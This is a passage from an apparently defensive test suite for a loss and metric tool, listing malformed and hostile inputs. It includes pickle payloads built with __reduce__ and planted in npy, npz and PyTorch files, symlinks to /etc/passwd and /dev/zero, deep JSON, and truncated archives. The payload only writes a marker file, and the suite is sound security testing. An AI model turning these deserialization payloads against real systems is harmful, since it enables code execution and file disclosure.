    Case("cm_metric_1mb", "confusion", params=counts(metric="m" * 1_000_000)),
    Case("cm_accuracy_without_tn", "confusion", params=counts(tn=None, metric="accuracy"), match="tn"),
    Case("cm_claim_text", "confusion", params=counts(), claimed="seventy"),
    Case("cm_claim_huge_exp", "confusion", params=counts(), claimed="1.5e-99999999999", expect="error", match="claimed"),
    Case("cm_all_zero_valid", "confusion", params=counts(0, 0, 0, 0), expect="ok"),
    Case("cm_text_counts_valid", "confusion", params=counts("20", "5.0", " 10 ", "65"), expect="ok"),
    Case("cm_claim_valid", "confusion", params=counts(), claimed="0.7273", expect="ok"),
]

# -- files (the CLI's @path; a pathlib.Path in Python) -------------------------------------------------


class _Payload:
    """Unpickling this creates tmp_path/PWNED (open(path, "w")): it must never be unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (self.marker, "w"))


def _write(path: Path, data: bytes | str) -> str:
    if isinstance(data, str):
        data = data.encode()
    path.write_bytes(data)
    return str(path)


def _npz_text_member(tmp: Path) -> str:
    path = tmp / "text_member.npz"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "not an array")
    return str(path)


def _npz_text_first(tmp: Path) -> str:
    path = tmp / "text_first.npz"
    buffer = tmp / "b.npy"
    np.save(buffer, np.array([0.2, 0.8]))
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("a.txt", "0.5 0.5")
        archive.write(buffer, "b.npy")
    return str(path)


def _npz_pickle(tmp: Path) -> str:
    path = tmp / "pickled.npz"
    np.savez(path, a=np.array([_Payload(tmp / MARKER)], dtype=object))
    return str(path)


def _npy_pickle(tmp: Path) -> str:
    path = tmp / "pickled.npy"
    np.save(path, np.array([_Payload(tmp / MARKER), 1], dtype=object), allow_pickle=True)
    return str(path)


def _npy_huge_header(tmp: Path) -> str:
    path = tmp / "huge_header.npy"
    with path.open("wb") as f:
        np.lib.format.write_array_header_1_0(f, {"descr": "<f8", "fortran_order": False,
                                                 "shape": (1_000_000, 1_000_000)})
        f.write(b"\x00" * 64)
    return str(path)


def _npy_bad_descr(tmp: Path) -> str:
    path = tmp / "bad_descr.npy"
    with path.open("wb") as f:
        np.lib.format.write_array_header_1_0(f, {"descr": "<f8", "fortran_order": False, "shape": (2,)})
    raw = path.read_bytes().replace(b"'<f8'", b"'|O' ")
    return _write(path, raw + pickle.dumps([_Payload(tmp / MARKER)]))


def _pt_legacy_payload(tmp: Path) -> str:
    return _write(tmp / "legacy_payload.pt", pickle.dumps(_Payload(tmp / MARKER), protocol=2))


def _pt_legacy_tensor(tmp: Path) -> str:
    path = tmp / "legacy.pt"
    torch.save(torch.tensor([0.2947, 0.5898, 0.4863]), path, _use_new_zipfile_serialization=False)
    return str(path)


def _pt_zip_payload(tmp: Path) -> str:
    path = tmp / "zip_payload.pt"
    torch.save({"t": torch.tensor([0.5, 0.5, 0.5])}, path)
    with zipfile.ZipFile(path) as archive:
        members = {i.filename: archive.read(i) for i in archive.infolist()}
    data_pkl = next(k for k in members if k.endswith("data.pkl"))
    members[data_pkl] = pickle.dumps(_Payload(tmp / MARKER), protocol=2)
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return str(path)


def _pt_two_tensors(tmp: Path) -> str:
    path = tmp / "two.pt"
    torch.save({"a": torch.ones(3), "b": torch.zeros(3)}, path)
    return str(path)


def _pt_string(tmp: Path) -> str:
    path = tmp / "string.pt"
    torch.save("not a tensor", path)
    return str(path)


def _truncated(tmp: Path, name: str, save: Callable[[Path], None]) -> str:
    path = tmp / name
    save(path)
    raw = path.read_bytes()
    return _write(path, raw[: len(raw) // 2])


def _symlink(tmp: Path, name: str, target: str) -> str:
    path = tmp / name
    os.symlink(target, path)
    return str(path)


def _symlink_loop(tmp: Path) -> str:
    os.symlink(tmp / "loop_b.csv", tmp / "loop_a.csv")
    os.symlink(tmp / "loop_a.csv", tmp / "loop_b.csv")
    return str(tmp / "loop_a.csv")


def _directory(tmp: Path) -> str:
    path = tmp / "folder.csv"
    path.mkdir()
    return str(path)


def _fifo(tmp: Path) -> str:
    path = tmp / "fifo.csv"
    os.mkfifo(path)
    return str(path)


FILES: dict[str, Callable[[Path], str]] = {
    "missing": lambda tmp: str(tmp / "missing.csv"),
    "directory": _directory,
    "tmp_directory": lambda tmp: str(tmp),
    "null_byte_path": lambda tmp: str(tmp / "x\x00y.csv"),
    "empty_path": lambda tmp: "",
    "long_name": lambda tmp: str(tmp / ("a" * 5000 + ".csv")),
    "dev_null": lambda tmp: "/dev/null",
    "symlink_passwd": lambda tmp: _symlink(tmp, "x.csv", "/etc/passwd"),
    "symlink_dev_zero": lambda tmp: _symlink(tmp, "zero.txt", "/dev/zero"),
    "symlink_loop": _symlink_loop,
    "fifo": _fifo,
    "exe": lambda tmp: _write(tmp / "tool.exe", b"MZ\x90\x00"),
    "empty_csv": lambda tmp: _write(tmp / "empty.csv", b""),
    "invalid_utf8": lambda tmp: _write(tmp / "latin1.csv", b"0.5,\xff\xfe0.2"),
    "csv_null_bytes": lambda tmp: _write(tmp / "nul.csv", b"0.5\x00,0.2\x00,0.1"),
    "json_deep": lambda tmp: _write(tmp / "deep.json", deep(39_000)),
    "json_object_deep": lambda tmp: _write(tmp / "object_deep.json", '{"a": ' * 39_000 + "1" + "}" * 39_000),
    "json_invalid": lambda tmp: _write(tmp / "bad.json", "{'pred': [1, 2]}"),
    "csv_big_for_limit": lambda tmp: _write(tmp / "big.csv", "0.5, 0.5, 0.5\n" * 100),
    "npz_text_member": _npz_text_member,
    "npz_text_first": _npz_text_first,
    "npz_pickle": _npz_pickle,
    "npy_pickle": _npy_pickle,
    "npy_huge_header": _npy_huge_header,
    "npy_object_descr": _npy_bad_descr,
    "npy_garbage": lambda tmp: _write(tmp / "garbage.npy", b"\x93NUMPY\x01\x00garbage"),
    "npz_truncated": lambda tmp: _truncated(tmp, "cut.npz", lambda p: np.savez(p, a=np.arange(1000.0))),
    "pt_truncated": lambda tmp: _truncated(tmp, "cut.pt", lambda p: torch.save(torch.arange(1000.0), p)),
    "pt_legacy_payload": _pt_legacy_payload,
    "pt_zip_payload": _pt_zip_payload,
    "pt_legacy_tensor": _pt_legacy_tensor,
    "pt_two_tensors": _pt_two_tensors,
    "pt_string": _pt_string,
    "pt_text": lambda tmp: _write(tmp / "text.pt", json.dumps([0.5, 0.5, 0.5])),
}

FILE_CASES = [
    Case(f"file_{key}", "bce", target=T3, file=key, interfaces=LOCAL,
         expect="either" if key == "pt_legacy_tensor" else "error",
         limits={"MAX_FILE_BYTES": 64} if key == "csv_big_for_limit" else {})
    for key in FILES
]

# -- Python objects (only the Python API can pass them) ------------------------------------------------


class _Weird:
    def __array__(self, *args: Any, **kwargs: Any) -> np.ndarray:
        raise RuntimeError("no array for you")


PY = ("python",)
OBJECTS = [
    Case("obj_dict", "mse", {"a": 1}, "[1]", interfaces=PY),
    Case("obj_set", "mse", {1.0, 2.0}, "[1, 2]", interfaces=PY),
    Case("obj_object", "mse", object(), "[1]", interfaces=PY),
    Case("obj_array_protocol_raises", "mse", _Weird(), "[1]", interfaces=PY),
    Case("obj_generator", "mse", (x for x in [1.0, 2.0]), "[1, 2]", interfaces=PY),
    Case("obj_complex_tensor", "mse", torch.tensor([1 + 2j]), "[1]", interfaces=PY, match="complex"),
    Case("obj_bool_tensor", "mse", torch.tensor([True, False]), "[1, 0]", interfaces=PY),
    Case("obj_meta_tensor", "mse", torch.empty(3, device="meta"), VALUES_T, interfaces=PY, match="meta"),
    Case("obj_empty_tensor", "mse", torch.empty(0), "[1]", interfaces=PY),
    Case("obj_huge_tensor", "mse", torch.zeros(20_000_001, dtype=torch.float16), "[0]", interfaces=PY, match="elements"),
    Case("obj_object_array_none", "mse", np.array([1.0, None], dtype=object), "[1, 1]", interfaces=PY),
    Case("obj_string_array", "mse", np.array(["0.5", "abc"]), "[1, 1]", interfaces=PY),
    Case("obj_datetime_array", "mse", np.array(["2020-01-01"], dtype="datetime64[D]"), "[1]", interfaces=PY),
    Case("obj_list_with_none", "mse", [1.0, None], "[1, 1]", interfaces=PY),
    Case("obj_list_ragged", "mse", [[1.0, 2.0], [3.0]], "[1]", interfaces=PY),
    Case("obj_list_deep_10k", "mse", deep_list(10_000), "[0.5]", interfaces=PY),
    Case("obj_bytes_invalid_utf8", "mse", b"\xff\xfe[1]", "[1]", interfaces=PY),
    Case("obj_uint64_huge", "mse", np.array([2**64 - 1], dtype=np.uint64), "[1]", interfaces=PY),
    Case("obj_loss_none", None, P3, T3, interfaces=PY),
    Case("obj_loss_int", 5, P3, T3, interfaces=PY),
    Case("obj_reduction_int", "bce", P3, T3, reduction=5, interfaces=PY),
    Case("obj_dtype_int64", "bce", P3, T3, dtype=torch.int64, interfaces=PY),
    Case("obj_device_object", "bce", P3, T3, device=object(), interfaces=PY),
    Case("obj_claim_list", "bce", P3, T3, claimed=[0.9264], interfaces=PY),
    Case("obj_claim_object", "bce", P3, T3, claimed=object(), interfaces=PY),
    Case("obj_claim_bool", "bce", P3, T3, claimed=True, interfaces=PY),
    Case("obj_claim_decimal", "bce", P3, T3, claimed=decimal.Decimal("0.9264"), interfaces=PY,
         expect="either"),
    Case("obj_claim_numpy_valid", "bce", P3, T3, claimed=np.float64(0.9264), interfaces=PY, expect="ok"),
    Case("obj_claim_inf_float", "bce", P3, T3, claimed=float("inf"), interfaces=PY, expect="either"),
    Case("obj_weight_complex", "bce", P3, T3, params={"weight": torch.tensor([1j, 1, 1])}, interfaces=PY),
    Case("obj_weight_object", "bce", P3, T3, params={"weight": object()}, interfaces=PY),
    Case("obj_cm_object", "confusion", params=counts(tp=object()), interfaces=PY),
    Case("obj_cm_tensor", "confusion", params=counts(tp=torch.tensor([1, 2])), interfaces=PY),
    Case("obj_cm_nan_float", "confusion", params=counts(tp=float("nan")), interfaces=PY),
]

# -- command-line spellings ----------------------------------------------------------------------------

CLI_ONLY = [
    Case("cli_param_without_equals", "bce", P3, T3, cli_extra=("--param", "weight"), interfaces=("cli",),
         match="NAME=VALUE"),
    Case("cli_param_empty_name", "bce", P3, T3, cli_extra=("--param", " =1"), interfaces=("cli",)),
    Case("cli_loss_is_a_flag", "--json", P3, T3, interfaces=("cli",), match="loss name"),
    Case("cli_pred_at_nothing", "bce", "@", T3, interfaces=("cli",)),
]

CASES: list[Case] = [*TEXT, *SHAPES, *PARAMS, *NAMES, *CLAIMS, *CONFUSION, *FILE_CASES, *OBJECTS, *CLI_ONLY]

_ids = [c.id for c in CASES]
if len(set(_ids)) != len(_ids):
    raise ValueError(f"duplicate case ids: {sorted({i for i in _ids if _ids.count(i) > 1})}")
